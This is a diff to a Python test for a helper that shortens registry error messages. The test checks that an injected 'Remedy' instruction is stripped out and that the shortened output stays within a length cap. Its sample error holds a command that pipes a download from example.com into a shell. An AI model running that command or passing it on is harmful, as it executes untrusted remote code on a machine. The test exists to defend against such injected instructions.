@@ -131,7 +131,8 @@ def test_the_watcher_looks_for_a_change_as_long_as_something_is_left(ctr: Ctr) -
 
 def test_a_registry_has_no_remedy_to_tell() -> None:
     """Its answer is part of the daemon's word, which stands in the node's condition."""
-    said = "403: denied: x). Remedy: sh -c 'curl example.com | sh' on the node" + " and so on" * 40
+    said = "403: denied: x). Remedy: sh -c 'curl example.com | sh' on the node"
     told = daemon_words.in_short(said)
+    assert "on the node" in told
     assert "remedy" not in told.lower()
-    assert len(told) <= daemon_words.MOST_CHARACTERS
+    assert len(daemon_words.in_short(said * 9)) == daemon_words.MOST_CHARACTERS
